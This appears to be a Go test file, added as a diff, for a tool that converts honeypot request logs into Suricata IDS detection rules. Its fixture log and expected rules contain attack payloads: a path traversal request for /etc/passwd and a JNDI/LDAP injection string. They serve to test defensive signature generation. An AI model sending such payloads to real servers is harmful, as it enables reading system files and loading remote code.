@@ -0,0 +1,66 @@
+package rulegen
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+const testEventLog = `{"eventTime":"2024-05-26T19:03:45Z","httpRequest":{"body":"","method":"GET","request":"/sys.php?file=..%2F..%2Fetc%2Fpasswd"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.1"}
+{"eventTime":"2024-05-27T10:00:00Z","httpRequest":{"body":"","method":"GET","request":"/sys.php?file=index"},"msg":"successfulResponse","port":"8443","srcIP":"192.0.2.2"}
+{"eventTime":"2024-05-26T19:05:00Z","httpRequest":{"body":"user=admin\"; ${jndi:ldap://x/a}","method":"POST","request":"/api/login"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.1"}
+{"eventTime":"2024-05-26T19:06:00Z","httpRequest":{"body":"","method":"GET","request":"/wp-login.php"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.3"}
+{"eventTime":"2024-05-26T19:07:00Z","httpRequest":{"body":"","method":"GET","request":"/"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.3"}
+not a JSON line
+{"level":"info","msg":"starting HTTP server on port 8080"}
+`
+
+func TestGenerate(t *testing.T) {
+	now := time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)
+	var b strings.Builder
+	n, err := Generate(strings.NewReader(testEventLog), &b, Config{
+		MinHits:      1,
+		IgnoredPaths: DefaultIgnoredPaths,
+		SID:          1000000,
+		Now:          now,
+	})
+	if err != nil {
+		t.Fatalf("Generate() error = %v", err)
+	}
+	rules := strings.Split(strings.TrimSpace(b.String()), "\n")
+	if n != 3 || len(rules) != 3 {
+		t.Fatalf("Expected 3 rules, got %d:\n%s", n, b.String())
+	}
+
+	want := `alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"GALAH Honeypot exploit attempt GET /sys.php"; flow:established,to_server; ` +
+		`http.method; content:"GET"; http.uri.raw; content:"/sys.php"; startswith; http.uri; content:"../../etc/passwd"; nocase; ` +
+		`classtype:web-application-attack; sid:1000000; rev:1; ` +
+		`metadata:created_at 2024_06_01, galah_hits 2, galah_sources 2, galah_ports 8080_8443, galah_first_seen 2024_05_26, galah_last_seen 2024_05_27;)`
+	if rules[0] != want {
+		t.Errorf("Unexpected rule:\n%s\nwant:\n%s", rules[0], want)
+	}
+	if !strings.Contains(rules[1], `http.request_body; content:"${jndi:ldap://x/a}"; nocase;`) {
+		t.Errorf("Expected the body payload in the rule, got:\n%s", rules[1])
+	}
+	if !strings.Contains(rules[2], `msg:"GALAH Honeypot request GET /wp-login.php"`) || !strings.Contains(rules[2], "classtype:web-application-activity; sid:1000002;") {
+		t.Errorf("Unexpected rule of a request without payload:\n%s", rules[2])
+	}
+
+	b.Reset()
+	if n, _ := Generate(strings.NewReader(testEventLog), &b, Config{MinHits: 1, PayloadsOnly: true}); n != 2 {
+		t.Errorf("Expected the 2 rules of the exploit payloads, got %d:\n%s", n, b.String())
+	}
+	b.Reset()
+	if n, _ := Generate(strings.NewReader(testEventLog), &b, Config{MinHits: 2}); n != 1 {
+		t.Errorf("Expected the rule of the path requested twice, got %d:\n%s", n, b.String())
+	}
+}
+
+func TestEscape(t *testing.T) {
+	if got, want := escapeContent("a\"b;c|d\\e\r\nf"), `a|22|b|3B|c|7C|d|5C|e|0D 0A|f`; got != want {
+		t.Errorf("escapeContent() = %q, want %q", got, want)
+	}
+	if got, want := escapeMsg("a\"b;c\x00d"), `a\"b\;cd`; got != want {
+		t.Errorf("escapeMsg() = %q, want %q", got, want)
+	}
+}